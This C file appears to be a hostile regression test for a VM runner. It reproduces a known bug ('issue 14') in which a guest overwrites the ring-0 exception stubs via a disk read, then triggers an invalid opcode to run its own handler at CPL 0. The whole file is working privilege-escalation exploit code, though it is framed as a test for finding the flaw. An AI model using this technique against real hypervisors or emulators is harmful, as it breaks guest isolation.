/* Hostile: the CPL 0 escape of issue 14. cpl_escape.elf [STUBS_HEX]: writes a copy of the ring-0 stubs whose #UD stub jumps to the guest's own code to disk 0, asks BLK_READ to read it back over the stubs, then executes ud2. The #UD handler records the CS it ran with: "escaped: cs=0x8" means the guest reached CPL 0. */
#include "hostile.h"

#define STUB_SIZE 16
#define UD_VECTOR 6

volatile uint32_t handler_cs;
extern char escape_handler[];
/* Runs at CPL 0 if the exploit works: records CS, skips the ud2, returns. */
__asm__(".text\n"
	".globl escape_handler\n"
	"escape_handler:\n"
	"	movw %cs, %ax\n"
	"	movzwl %ax, %eax\n"
	"	movl %eax, handler_cs(%rip)\n"
	"	addq $2, (%rsp)\n"
	"	iretq\n");

static uint8_t stubs[512] __attribute__((aligned(512)));

static unsigned read_cs(void)
{
	uint16_t cs;
	__asm__ volatile("movw %%cs, %0" : "=r"(cs));
	return cs;
}

int main(int argc, char **argv)
{
	uint64_t target = argc > 1 ? lv_strtoull(argv[1], 0, 16) : 0x5000;
	/* The runner's stubs, as boot_x86_64.c builds them ([push $0;]
	 * push $v; hlt; jmp .), so other faults still report... */
	for (unsigned v = 0; v < sizeof(stubs) / STUB_SIZE; v++) {
		uint8_t *s = stubs + v * STUB_SIZE;
		unsigned n = 0;
		int err = v == 8 || (v >= 10 && v <= 14) || v == 17 || v == 21 || v == 29 || v == 30;
		memset(s, 0xCC, STUB_SIZE);
		if (!err) {
			s[n++] = 0x6A;
			s[n++] = 0x00;
		}
		s[n++] = 0x6A;
		s[n++] = (uint8_t)v;
		s[n++] = 0xF4;
		s[n++] = 0xEB;
		s[n++] = 0xFE;
	}
	/* ... except #UD: movabs $escape_handler, %rax; jmp *%rax. */
	uint8_t *ud = stubs + UD_VECTOR * STUB_SIZE;
	uint64_t handler = (uintptr_t)escape_handler;
	memset(ud, 0xCC, STUB_SIZE);
	ud[0] = 0x48;
	ud[1] = 0xB8;
	memcpy(ud + 2, &handler, sizeof(handler));
	ud[10] = 0xFF;
	ud[11] = 0xE0;
	lv_printf("cs before: 0x%x\n", read_cs());
	int rc = lv_blk_write(0, 0, 1, stubs);
	if (rc) {
		lv_printf("disk write: %d (needs a writable --disk)\n", rc);
		return 3;
	}
	rc = lv_blk_read(0, 0, 1, (void *)(uintptr_t)target);
	lv_printf("disk read over the stubs: %d\n", rc);
	__asm__ volatile("ud2" : : : "rax", "memory");
	lv_printf("escaped: cs=0x%x\n", handler_cs);
	return 66;
}
